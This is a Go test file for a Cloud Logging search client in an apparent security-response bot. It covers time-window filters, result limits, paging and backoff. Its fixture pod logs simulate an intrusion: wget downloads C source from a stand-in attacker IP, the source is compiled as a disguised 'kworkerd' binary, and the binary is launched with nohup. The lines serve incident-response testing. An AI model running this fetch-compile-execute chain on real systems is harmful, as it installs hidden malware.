package cloudlogging

import (
	"context"
	"testing"
	"time"

	logging "cloud.google.com/go/logging/apiv2"
	"cloud.google.com/go/logging/apiv2/loggingpb"
	"github.com/google/go-cmp/cmp"
	"google.golang.org/genproto/googleapis/api/monitoredres"
	ltype "google.golang.org/genproto/googleapis/logging/type"
	"google.golang.org/protobuf/testing/protocmp"
	"google.golang.org/protobuf/types/known/timestamppb"

	"github.com/sccbot/sccbot/bot"
	"github.com/sccbot/sccbot/bot/cloudlogging/loggingfake"
)

// eventTime is the GKE seed finding's event time; windows centre on it.
var eventTime = time.Date(2026, 11, 20, 10, 15, 30, 123000000, time.UTC)

const podFilter = `resource.type="k8s_container"
resource.labels.project_id="demo-prod"
resource.labels.location="us-central1"
resource.labels.cluster_name="prod-cluster"
resource.labels.namespace_name="payments"
resource.labels.pod_name="checkout-7d9f8b6c5-x2x9q"`

// podQuery is the pod log query of the GKE playbook, ±15 minutes around
// the event.
func podQuery(limit int) bot.LogQuery {
	return bot.LogQuery{
		Title:   "Container logs of the pod",
		Project: "demo-prod",
		Filter:  podFilter,
		Start:   eventTime.Add(-15 * time.Minute),
		End:     eventTime.Add(15 * time.Minute),
		Limit:   limit,
	}
}

type env struct {
	fake   *loggingfake.Server
	client *Client
}

// newEnv starts a fake and a Client on the real apiv2 client with no
// backoff, unless opts sets one.
func newEnv(t *testing.T, opts Options) env {
	t.Helper()
	fake := loggingfake.New()
	if err := fake.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(fake.Close)
	lc, err := logging.NewClient(context.Background(), fake.ClientOptions()...)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = lc.Close() })
	if opts.Backoff == nil {
		opts.Backoff = func(int) time.Duration { return 0 }
	}
	return env{fake: fake, client: New(lc, opts)}
}

func podResource(pod string) *monitoredres.MonitoredResource {
	return &monitoredres.MonitoredResource{Type: "k8s_container", Labels: map[string]string{
		"project_id": "demo-prod", "location": "us-central1", "cluster_name": "prod-cluster",
		"namespace_name": "payments", "pod_name": pod, "container_name": "checkout"}}
}

// podLine is a stderr line of the seed pod at the event time plus offset.
func podLine(id string, offset time.Duration, text string) *loggingpb.LogEntry {
	return &loggingpb.LogEntry{
		LogName:   "projects/demo-prod/logs/stderr",
		Resource:  podResource("checkout-7d9f8b6c5-x2x9q"),
		Timestamp: timestamppb.New(eventTime.Add(offset)),
		Severity:  ltype.LogSeverity_ERROR,
		InsertId:  id,
		Payload:   &loggingpb.LogEntry_TextPayload{TextPayload: text},
	}
}

func stored(e env) {
	other := podLine("other-pod", 0, "another pod")
	other.Resource = podResource("checkout-7d9f8b6c5-zzzzz")
	elsewhere := podLine("other-project", 0, "another project")
	elsewhere.LogName = "projects/demo-web/logs/stderr"
	e.fake.AddEntries(
		podLine("e1", -10*time.Minute, "+ wget -q -O /tmp/.cache/kworkerd.c http://203.0.113.50/k.c"),
		podLine("e2", -time.Second, "+ gcc -O2 -static -o kworkerd kworkerd.c -lpthread"),
		podLine("e3", 2*time.Second, "kworkerd.c: In function 'main':"),
		podLine("e4", 5*time.Minute, "+ nohup /tmp/.cache/kworkerd"),
		podLine("too-old", -16*time.Minute, "before the window"),
		podLine("too-new", 16*time.Minute, "after the window"),
		other, elsewhere,
	)
}

func resultEntry(id string, offset time.Duration, text string) bot.LogEntry {
	return bot.LogEntry{Time: eventTime.Add(offset), Severity: "ERROR", Summary: text,
		LogName: "projects/demo-prod/logs/stderr", InsertID: id}
}

func TestSearch(t *testing.T) {
	const wantFilter = podFilter + "\n" +
		`timestamp>="2026-11-20T10:00:30.123Z"` + "\n" +
		`timestamp<="2026-11-20T10:30:30.123Z"`
	all := []bot.LogEntry{
		resultEntry("e4", 5*time.Minute, "+ nohup /tmp/.cache/kworkerd"),
		resultEntry("e3", 2*time.Second, "kworkerd.c: In function 'main':"),
		resultEntry("e2", -time.Second, "+ gcc -O2 -static -o kworkerd kworkerd.c -lpthread"),
		resultEntry("e1", -10*time.Minute, "+ wget -q -O /tmp/.cache/kworkerd.c http://203.0.113.50/k.c"),
	}
	cases := []struct {
		name     string
		limit    int
		pageSize int32
		want     []bot.LogEntry
		more     bool
	}{
		{"more than the limit", 3, 4, all[:3], true},
		{"exactly the limit", 4, 5, all, false},
		{"fewer than the limit", 10, 11, all, false},
		{"default limit", 0, DefaultLimit + 1, all, false},
		{"limit capped", 1000, MaxLimit + 1, all, false},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			e := newEnv(t, Options{})
			stored(e)
			q := podQuery(c.limit)
			res, err := e.client.Search(context.Background(), q)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(c.want, res.Entries); diff != "" {
				t.Errorf("entries (-want +got):\n%s", diff)
			}
			if res.More != c.more {
				t.Errorf("More = %v, want %v", res.More, c.more)
			}
			if res.ExplorerURL != ExplorerURL(q) || res.Query.Filter != q.Filter || res.Query.Limit != int(c.pageSize)-1 {
				t.Errorf("result query %+v, URL %q", res.Query, res.ExplorerURL)
			}
			want := []*loggingpb.ListLogEntriesRequest{{ResourceNames: []string{"projects/demo-prod"},
				Filter: wantFilter, OrderBy: "timestamp desc", PageSize: c.pageSize}}
			if diff := cmp.Diff(want, e.fake.Requests(), protocmp.Transform()); diff != "" {
				t.Errorf("requests (-want +got):\n%s", diff)
			}
		})
	}
}

// A page that comes back with a page token but fewer entries than asked
// for (Cloud Logging does this when a search is slow) is not followed:
// one call, and More tells the responder there may be more.
func TestSearchDoesNotFollowPageTokens(t *testing.T) {
	e := newEnv(t, Options{})
	stored(e)
	e.fake.SetPageCap(1)
	res, err := e.client.Search(context.Background(), podQuery(10))
	if err != nil {
		t.Fatal(err)
	}
	want := []bot.LogEntry{resultEntry("e4", 5*time.Minute, "+ nohup /tmp/.cache/kworkerd")}
	if diff := cmp.Diff(want, res.Entries); diff != "" {
		t.Errorf("entries (-want +got):\n%s", diff)
	}
	if !res.More || len(e.fake.Requests()) != 1 {
		t.Errorf("More %v after %d calls; want true after 1", res.More, len(e.fake.Requests()))
	}
}

func TestSearchEmptyFilterHasOnlyBounds(t *testing.T) {
	q := podQuery(5)
	q.Filter = ""
	want := `timestamp>="2026-11-20T10:00:30.123Z"` + "\n" + `timestamp<="2026-11-20T10:30:30.123Z"`
	if got := APIFilter(q); got != want {
		t.Errorf("APIFilter = %q, want %q", got, want)
	}
	q.Start = q.Start.In(time.FixedZone("CET", 3600))
	if got := APIFilter(q); got != want {
		t.Errorf("APIFilter with a zoned start = %q, want UTC bounds %q", got, want)
	}
}

func TestDefaultBackoff(t *testing.T) {
	var got []time.Duration
	for a := 1; a <= 6; a++ {
		got = append(got, DefaultBackoff(a))
	}
	want := []time.Duration{500 * time.Millisecond, time.Second, 2 * time.Second, 4 * time.Second, 8 * time.Second, 8 * time.Second}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("backoff (-want +got):\n%s", diff)
	}
}
